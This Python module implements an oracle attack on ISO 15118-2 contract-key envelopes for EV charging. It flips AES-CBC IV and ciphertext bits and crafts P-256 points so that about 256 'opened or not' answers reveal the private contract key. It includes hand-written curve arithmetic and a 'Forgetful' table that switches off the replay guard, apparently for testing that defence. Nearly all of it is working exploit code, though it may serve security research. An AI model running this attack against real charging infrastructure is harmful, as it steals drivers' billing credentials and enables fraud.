"""The attack on an envelope of ISO 15118-2 that AES-CBC's lack of integrity allows.

    recover(envelope, ask)     the contract key, if every question is answered

The device that opens envelopes answers "opened" or not, for a certificate that the attacker
chooses. The attacker flips bit j of the IV: the key inside is d + 2^(128+j) if that bit of d was
0, so "opened" with a certificate for P + 2^(128+j) G reveals the bit. With the upper half known,
AES^-1(C1) is known too, and IV' | C2 | C1 has the lower half in the place of the upper one, for
128 more questions. All questions have the recording's DH point.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any, NamedTuple

from evcc.envelopes import Envelopes

_P = 0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF
_G = (
    0x6B17D1F2E12C4247F8BCE6E563A440F277037D812DEB33A0F4A13945D898C296,
    0x4FE342E2FE1A7F9B8EE7EB4A7C0F9E162BCE33576B315ECECBB6406837BF51F5,
)
_HALF = 128  # bits of a block
Point = tuple[int, int] | None  # None: infinity


class Envelope(NamedTuple):
    """The recorded values. dh_point, public: 65 bytes; wrapped: IV | C1 | C2, 16 bytes each."""

    dh_point: bytes
    wrapped: bytes
    public: bytes


Ask = Callable[[Envelope], bool]  # whether an envelope is opened


class Forgetful(Envelopes):
    """A table without its guard: it remembers no envelope."""

    def check(self, *envelope: Any) -> None:
        """Accept every envelope."""

    def add(self, *envelope: Any) -> None:
        """Keep no envelope."""

    def opened(self, leaf: bytes) -> bool:
        return False


def recover(recorded: Envelope, ask: Ask) -> int:
    """The contract key; a wrong number if the answers reveal nothing."""
    iv, c1, c2 = (recorded.wrapped[at : at + 16] for at in (0, 16, 32))
    public = decoded(recorded.public)
    upper = 0
    for bit in range(_HALF):
        changed = xor(iv, 1 << bit) + c1 + c2
        guess = add(public, multiply(1 << (_HALF + bit), _G))
        if not ask(Envelope(recorded.dh_point, changed, encoded(guess))):
            upper |= 1 << bit
    # With C2 before C1 the second block is known, and the first is the key's lower half.
    known = int.from_bytes(iv, "big") ^ upper ^ int.from_bytes(c2, "big")
    lower_point = add(public, negated(multiply(upper << _HALF, _G)))
    rest = multiply(known, _G)
    lower = 0
    for bit in range(_HALF):
        changed = xor(c1, 1 << bit) + c2 + c1
        guess = add(multiply(1 << _HALF, add(lower_point, multiply(1 << bit, _G))), rest)
        if not ask(Envelope(recorded.dh_point, changed, encoded(guess))):
            lower |= 1 << bit
    return upper << _HALF | lower


def first_question(recorded: Envelope, bit: int = 0) -> Envelope:
    """The first of the 256 questions, about `bit` of the upper half."""
    guess = add(decoded(recorded.public), multiply(1 << (_HALF + bit), _G))
    changed = xor(recorded.wrapped[:16], 1 << bit) + recorded.wrapped[16:]
    return Envelope(recorded.dh_point, changed, encoded(guess))


def xor(block: bytes, number: int) -> bytes:
    """The block of 16 bytes XOR a number of 128 bits."""
    return (int.from_bytes(block, "big") ^ number).to_bytes(16, "big")


def decoded(point: bytes) -> Point:
    """The point in 65 bytes, 0x04 | X | Y."""
    return int.from_bytes(point[1:33], "big"), int.from_bytes(point[33:], "big")


def encoded(point: Point) -> bytes:
    assert point is not None
    return b"\4" + point[0].to_bytes(32, "big") + point[1].to_bytes(32, "big")


def negated(point: Point) -> Point:
    return point and (point[0], -point[1] % _P)


def add(a: Point, b: Point) -> Point:
    """The sum of two points."""
    if a is None or b is None:
        return a or b
    if a[0] == b[0] and (a[1] + b[1]) % _P == 0:
        return None
    if a == b:
        slope = (3 * a[0] * a[0] - 3) * pow(2 * a[1], -1, _P) % _P
    else:
        slope = (b[1] - a[1]) * pow(b[0] - a[0], -1, _P) % _P
    x = (slope * slope - a[0] - b[0]) % _P
    return x, (slope * (a[0] - x) - a[1]) % _P


def multiply(scalar: int, point: Point) -> Point:
    total: Point = None
    while scalar:
        if scalar & 1:
            total = add(total, point)
        point = add(point, point)
        scalar >>= 1
    return total
